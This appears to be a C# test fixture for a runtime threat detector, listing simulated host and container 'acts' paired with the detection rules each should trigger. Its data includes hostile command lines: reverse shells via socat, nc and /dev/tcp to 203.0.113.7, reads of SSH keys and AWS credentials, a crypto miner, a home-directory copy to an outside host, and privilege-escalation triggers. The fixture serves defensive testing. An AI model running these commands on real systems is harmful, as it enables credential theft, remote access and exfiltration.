using static Saker.EndToEnd.Tests.Workload.WatchedAct;

namespace Saker.EndToEnd.Tests.Workload;

/// <summary>Programs that are started. What lies under <c>/acts</c> does nothing by itself, whatever its name.</summary>
internal static class ProgramActs
{
    public static IReadOnlyList<WatchedAct> All { get; } =
    [
        OnHost("search-keys", "/usr/bin/grep", "-q", "BEGIN OPENSSH PRIVATE KEY", "/home/ann/.ssh/id_ed25519") with
        {
            Upstream = ["Search Private Keys or Passwords"],
            Process = "grep",
        },
        OnHost("search-key-files", "/usr/bin/find", "/home/ann", "-name", "id_rsa") with
        {
            Upstream = ["Search Private Keys or Passwords"],
            Process = "find",
        },
        OnHost("search-cloud-keys", "/usr/bin/grep", "-q", "aws_secret_access_key", "/home/ann/.aws/credentials") with
        {
            Upstream = ["Find AWS Credentials"],
            Own = ["Credentials file of a cloud or cluster read"],
            Process = "grep",
            File = "/home/ann/.aws/credentials",
        },
        OnHost("shred", "/acts/shred", "/home/ann/letter") with
        {
            Upstream = ["Remove Bulk Data from Disk"],
            Process = "shred",
        },
        OnHost("edit-jobs", "/acts/crontab", "-e") with
        {
            Upstream = ["Schedule Cron Jobs"],
            Process = "crontab",
        },
        OnHost("add-user", "/acts/useradd", "intruder") with
        {
            Upstream = ["User mgmt binaries"],
            Process = "useradd",
            Fields = [("proc.cmdline", "useradd intruder")],
        },
        OnHost("tamper-with-loader", "/acts/victim") with
        {
            Environment = ["GLIBC_TUNABLES=glibc.malloc.mxfast=1"],
            Upstream = ["Potential Local Privilege Escalation via Environment Variables Misuse"],
            Process = "victim",
        },
        OnHost("download-through-proxy", "/acts/curl", "http://203.0.113.7/") with
        {
            Environment = ["HTTP_PROXY=http://198.51.100.9:3128"],
            Upstream = ["Program run with disallowed http proxy env"],
            Process = "curl",
        },
        OnHost("scan-from-host", "/acts/nmap", "203.0.113.0/24") with
        {
            Upstream = ["Launch Suspicious Network Tool on Host"],
            Process = "nmap",
        },
        OnHost("hand-out-shell", "/acts/socat", "TCP:203.0.113.7:4444", "EXEC:/bin/sh") with
        {
            Upstream = ["Netcat/Socat Remote Code Execution on Host"],
            Own = ["Reverse shell command line"],
            Process = "socat",
        },
        OnHost("mine", "/acts/xmrig", "-o", "stratum+tcp://203.0.113.7:3333") with
        {
            Upstream = ["Detect crypto miners using the Stratum protocol", "Known Cryptominer Process Executed"],
            Own = ["Crypto miner started"],
            Process = "xmrig",
        },
        OnHost("sudo-edit", "/acts/sudoedit", "-s", "\\") with
        {
            Upstream = ["Sudo Potential Privilege Escalation"],
            Process = "sudoedit",
        },
        OnHost("policy-kit", "/acts/pkexec") with
        {
            Upstream = ["Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)"],
            Process = "pkexec",
        },
        OnHost("look-around", "/acts/shell", "+terminal", "/usr/bin/id") with
        {
            Upstream = ["Basic Interactive Reconnaissance"],
            Process = "id",
        },
        OnHost("daemon-logs-in", "/acts/sshd", "+spawn", "+as", "1", "/bin/true") with
        {
            Upstream = ["System user interactive"],
            Process = "true",
            Fields = [("user.name", "daemon"), ("user.uid", "1")],
        },
        OnHost("run-from-shared-memory", "/bin/sh", "-c", "cp /acts/tool /dev/shm/tool && /dev/shm/tool") with
        {
            Upstream = ["Execution from /dev/shm"],
            Own = ["Program run from a temporary directory"],
            Process = "tool",
            Fields = [("proc.exepath", "/dev/shm/tool")],
        },
        OnHost("run-from-memory", "/acts/loader", "+spawn", "+memory", "/acts/tool") with
        {
            Upstream = ["Fileless execution via memfd_create"],
            Own = ["Program run from memory"],
            Fields = [("proc.exepath", "memfd:nowhere")],
        },
        OnHost("database-starts-program", "/acts/mysqld", "+spawn", "/usr/bin/id") with
        {
            Upstream = ["DB program spawned process"],
            Process = "id",
            Fields = [("proc.pname", "mysqld")],
        },
        OnHost("server-starts-shell", "/acts/nginx", "+spawn", "/bin/sh", "-c", ":") with
        {
            Upstream = ["Run shell untrusted", "Web Server Spawned Shell"],
            Process = "sh",
            Fields = [("proc.pname", "nginx")],
        },
        OnHost("server-starts-program", "/acts/nginx", "+spawn", "/usr/bin/id") with
        {
            Upstream = ["Web Server Spawned Suspicious Child Process"],
            Process = "id",
            Fields = [("proc.pname", "nginx")],
        },
        OnHost("server-hands-out-shell", "/acts/nginx", "+spawn", "/bin/sh", "-c", ": /dev/tcp/203.0.113.7/4444") with
        {
            Upstream = ["Reverse Shell from Web Server"],
            Own = ["Reverse shell command line"],
            Process = "sh",
            Fields = [("proc.cmdline", "sh -c : /dev/tcp/203.0.113.7/4444")],
        },
        OnHost("install-script-downloads", "/acts/npm", "+spawn", "/acts/curl", "http://203.0.113.7/") with
        {
            Own = ["Package's install script reaches for the network"],
            Process = "curl",
            Fields = [("proc.pname", "npm")],
        },
        InContainer("install-script-calls", "/acts/npm", "+spawn", "/acts/nc", "203.0.113.7", "80") with
        {
            Upstream = ["Network Tool Executed During NPM Package Install"],
            Own = ["Package's install script reaches for the network"],
            Process = "nc",
        },
        InContainer("first-shell", "/acts/runc", "+terminal", "/bin/sh", "-c", ":") with
        {
            Upstream = ["Terminal shell in container"],
            Process = "sh",
        },
        InContainer("later-shell", "/acts/server", "+terminal", "/bin/sh", "-c", ":") with
        {
            Own = ["Shell with a terminal in a container"],
            Process = "sh",
            Fields = [("proc.pname", "server")],
        },
        InContainer("hand-out-shell-from-container", "/acts/nc", "-e", "/bin/sh", "203.0.113.7", "4444") with
        {
            Upstream = ["Netcat Remote Code Execution in Container", "Launch Suspicious Network Tool in Container"],
            Own = ["Reverse shell command line"],
            Process = "nc",
        },
        InContainer("drop-and-run", "/bin/sh", "-c", "cp /acts/tool /opt/dropped && /opt/dropped") with
        {
            Upstream = ["Drop and execute new binary in container"],
            Own = ["Program that did not come with the image"],
            Process = "dropped",
            Fields = [("proc.exepath", "/opt/dropped")],
        },
        InContainer("install-package", "/acts/apt-get", "install", "intruder") with
        {
            Upstream = ["Launch Package Management Process in Container"],
            Own = ["Package manager started in a container"],
            Process = "apt-get",
        },
        InContainer("copy-away", "/acts/rsync", "/home/ann", "203.0.113.7:") with
        {
            Upstream = ["Launch Remote File Copy Tools in Container"],
            Process = "rsync",
        },
        InContainer("download", "/acts/wget", "http://203.0.113.7/") with
        {
            Upstream = ["Launch Ingress Remote File Copy Tools in Container"],
            Process = "wget",
        },
        InContainer("cluster-client", "/acts/kubectl", "get", "secrets") with
        {
            Upstream = ["Kubernetes Client Tool Launched in Container"],
            Process = "kubectl",
        },
        InContainer("decode", "/acts/base64", "-d", "/home/ann/letter") with
        {
            Upstream = ["Decoding Payload in Container"],
            Process = "base64",
        },
        InContainer("sniff", "/acts/tcpdump", "-i", "any") with
        {
            Upstream = ["Launch Suspicious Network Tool in Container"],
            Own = ["Network scanner or sniffer started in a container"],
            Process = "tcpdump",
        },
        InContainer("namespace-tool", "/acts/nsenter", "-t", "1", "-m") with
        {
            Own = ["Namespace tool started in a container"],
            Process = "nsenter",
        },
        InContainer("start-container", "/acts/runc", "+first", "/acts/server") with
        {
            Upstream = ["Launch Excessively Capable Container", "Launch Sensitive Mount Container", "Container Run as Root User"],
            Process = "server",
        },
    ];
}
